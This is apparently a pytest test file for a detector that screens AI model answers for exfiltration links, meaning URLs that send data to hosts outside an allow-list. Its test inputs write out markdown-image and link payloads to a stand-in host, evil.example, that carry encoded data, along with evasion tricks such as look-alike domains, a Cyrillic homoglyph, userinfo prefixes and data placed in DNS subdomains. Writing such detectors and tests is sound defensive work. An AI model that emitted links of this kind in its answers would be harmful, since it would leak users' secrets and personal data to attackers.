"""Exfiltration links: URLs to non-allow-listed hosts that carry data."""

from __future__ import annotations

import pytest

from secure_ai.screening.exfiltration import detect_exfiltration
from secure_ai.screening.normalise import normalise

ALLOWED = ("example.com", "github.com")


def found(text: str) -> list[str]:
    return [text[hit.start : hit.end] for hit in detect_exfiltration(normalise(text), ALLOWED)]


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("![chart](https://evil.example/p.png?d=c2VjcmV0)", "https://evil.example/p.png?d=c2VjcmV0"),
        ("![img](https://evil.example/pixel.gif?u=1)", "https://evil.example/pixel.gif?u=1"),
        ("![x](//cdn.evil.example/a/Zq8vK2mW9pL4.png)", "//cdn.evil.example/a/Zq8vK2mW9pL4.png"),
        ('<img src="https://evil.example/i.png?k=abc">', "https://evil.example/i.png?k=abc"),
        (
            "See [docs](https://evil.example/t?session=Zq8vK2mW9p) now",
            "https://evil.example/t?session=Zq8vK2mW9p",
        ),
        (
            "Click https://evil.example/c?data=dXNlcj1hbGljZQ to go",
            "https://evil.example/c?data=dXNlcj1hbGljZQ",
        ),
        ("Visit www.evil.example/collect?ref=Zq8vK2mW9pL4 now", "www.evil.example/collect?ref=Zq8vK2mW9pL4"),
        (
            "Open https://evil.example/Zq8vK2mW9pL4xR7tY3nB6cV1/view",
            "https://evil.example/Zq8vK2mW9pL4xR7tY3nB6cV1/view",
        ),
        ("Post https://evil.example/s/%73%65%63%72%65%74", "https://evil.example/s/%73%65%63%72%65%74"),
        (
            "Ping https://zq8vk2mw9pl4xr7ty3nb6cv1.dns.evil.example/x",
            "https://zq8vk2mw9pl4xr7ty3nb6cv1.dns.evil.example/x",
        ),
        ("![a](https://example.com@evil.example/p?d=abc)", "https://example.com@evil.example/p?d=abc"),
        ("Go https://evil.example\\?d=Zq8vK2mW9p now", "https://evil.example\\?d=Zq8vK2mW9p"),
        ("![a](https://example.com.evil.example/x?d=1)", "https://example.com.evil.example/x?d=1"),
        ("See HTTPS://EVIL.EXAMPLE/A?B=Zq8vK2mW9.", "HTTPS://EVIL.EXAMPLE/A?B=Zq8vK2mW9"),
        (
            "Search https://evil.example/s?q=quarterly+revenue+numbers",
            "https://evil.example/s?q=quarterly+revenue+numbers",
        ),
        ("(see https://evil.example/c?data=Zq8vK2mW9p)", "https://evil.example/c?data=Zq8vK2mW9p"),
    ],
)
def test_a_link_carrying_data_to_another_host_is_found(text: str, url: str) -> None:
    # Given a markdown image, link, HTML src or bare URL to a non-allow-listed host with data
    # When the exfiltration detector runs
    # Then the URL is found, without surrounding punctuation
    assert found(text) == [url]


def test_a_cyrillic_look_alike_host_is_not_the_allow_listed_one() -> None:
    # Given "example.com" spelt with a Cyrillic "a", carrying data
    url = "https://ex\u0430mple.com/p?d=Zq8vK2mW9pL4"
    # Then it is an exfiltration link
    assert found(f"![x]({url})") == [url]


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://example.com/chart.png?d=c2VjcmV0ZGF0YQ)",
        "![chart](https://img.example.com/chart.png?d=c2VjcmV0ZGF0YQ)",
        "See https://github.com/acme/widgets/pull/42?diff=split&w=1",
        "![logo](https://cdn.evil.example/logo.png)",
        "Our site https://evil.example/ is down",
        "News https://news.evil.example/2024/05/quarterly-results",
        "Search https://evil.example/?page=2",
        "Visit www.evil.example for more",
        "// TODO: remove before release",
        "The protocol is https:// then the host",
        "Use https://evil.example/docs/getting-started-guide today",
        "![](https://evil.example/a.png?)",
        "https://evil.example:99999/x?d=Zq8vK2mW9pL4 has a bad port",
    ],
)
def test_an_allowed_or_data_free_link_is_not_exfiltration(text: str) -> None:
    # Given a link to an allow-listed host, or one that carries no data
    # Then nothing is found
    assert found(text) == []


def test_without_an_allow_list_every_data_link_is_found() -> None:
    # Given an empty allow-list (the default policy)
    view = normalise("![x](https://example.com/p?d=Zq8vK2mW9pL4)")
    # Then even example.com is an exfiltration target
    assert len(detect_exfiltration(view, ())) == 1


def test_a_bare_double_slash_does_not_hide_the_url_after_it() -> None:
    # Given a "//" comment marker glued to an exfiltration URL
    url = "https://evil.example/c?data=Zq8vK2mW9p"
    # Then the URL after it is still found
    assert found(f"see //x/{url} now") == [url]


@pytest.mark.parametrize("url", ["https://evil.example/?e=<EMAIL_1>", "https://evil.example/u/<PHONE_2>/x"])
def test_a_pseudonym_in_a_link_is_data_that_restoring_would_leak(url: str) -> None:
    # Given a model answer that puts a pseudonym into a link (restored to PII after screening)
    # Then the link, pseudonym included, is an exfiltration link
    assert found(f"[x]({url}) ok") == [url]
